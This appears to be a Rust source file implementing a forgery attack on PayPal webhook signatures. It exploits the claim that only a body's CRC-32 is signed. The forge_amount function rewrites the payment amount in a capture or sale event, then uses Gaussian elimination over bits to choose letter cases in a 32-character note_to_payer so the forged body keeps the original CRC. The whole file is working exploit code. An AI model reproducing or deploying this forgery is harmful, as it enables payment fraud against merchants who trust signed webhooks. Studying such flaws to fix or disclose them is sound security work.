//! Another body that the same signature covers: what PayPal signs of a body is its CRC-32, and that is linear.
//!
//! Turning the case of a letter changes the CRC by a value that depends on its place alone, and the changes of several letters
//! add up without carry. The changes of 32 letters in a row are independent: they are the powers of x^8, which has the degree
//! of the whole field. So there is always exactly one choice of capitals that leads to the CRC that is wanted.

use serde_json::{Value, json};

/// A bit of a CRC-32 for each letter.
const LETTERS: usize = 32;
/// What upper and lower case differ by.
const CASE: u8 = 0x20;

/// Why a body cannot be forged.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
#[error("only the body of a capture or a sale has an amount to forge")]
pub struct NothingToForge;

/// A body with another amount and the same CRC-32. It is JSON of the same event, with a note of 32 letters for the payer; a
/// signature of the genuine body is as good for it.
///
/// # Errors
/// [`NothingToForge`] when the body is not JSON or has no `resource.amount`.
pub fn forge_amount(body: &[u8], amount: &str) -> Result<Vec<u8>, NothingToForge> {
    let mut forged: Value = serde_json::from_slice(body).map_err(|_| NothingToForge)?;
    let amounts = ["/resource/amount/value", "/resource/amount/total"];
    let own = amounts.iter().find(|pointer| forged.pointer(pointer).is_some_and(Value::is_string));
    let own = own.ok_or(NothingToForge)?;
    let copies =
        ["/resource/seller_receivable_breakdown/gross_amount/value", "/resource/amount/details/subtotal"];
    for pointer in copies.iter().chain([own]) {
        if let Some(place) = forged.pointer_mut(pointer) {
            *place = json!(amount);
        }
    }
    let write = |forged: &mut Value, note: &[u8]| {
        forged["resource"]["note_to_payer"] = json!(String::from_utf8_lossy(note));
        serde_json::to_vec(forged).map_err(|_| NothingToForge)
    };

    let mut note = [b'a'; LETTERS];
    let plain = paypal::crc32(&write(&mut forged, &note)?);
    let mut changes = Vec::new();
    for letter in 0..LETTERS {
        note[letter] ^= CASE;
        changes.push(paypal::crc32(&write(&mut forged, &note)?) ^ plain);
        note[letter] ^= CASE;
    }
    let wanted = paypal::crc32(body) ^ plain;
    for letter in choose(&changes, wanted) {
        note[letter] ^= CASE;
    }
    write(&mut forged, &note)
}

/// Which of the changes add up to what is wanted: Gauss's elimination over bits.
fn choose(changes: &[u32], wanted: u32) -> Vec<usize> {
    // For each leading bit, a sum that begins with it, and the changes that it is made of, as bits.
    let mut sums = [(0_u32, 0_u32); 32];
    for (letter, change) in changes.iter().enumerate().take(32) {
        let (mut rest, mut made_of) = (*change, 1_u32 << letter);
        while rest != 0 {
            let sum = &mut sums[rest.ilog2() as usize];
            if sum.0 == 0 {
                *sum = (rest, made_of);
                break;
            }
            rest ^= sum.0;
            made_of ^= sum.1;
        }
    }
    let (mut rest, mut made_of) = (wanted, 0);
    while rest != 0 {
        let (sum, of) = sums[rest.ilog2() as usize];
        if sum == 0 {
            break;
        }
        rest ^= sum;
        made_of ^= of;
    }
    (0..changes.len().min(32)).filter(|letter| made_of >> letter & 1 == 1).collect()
}
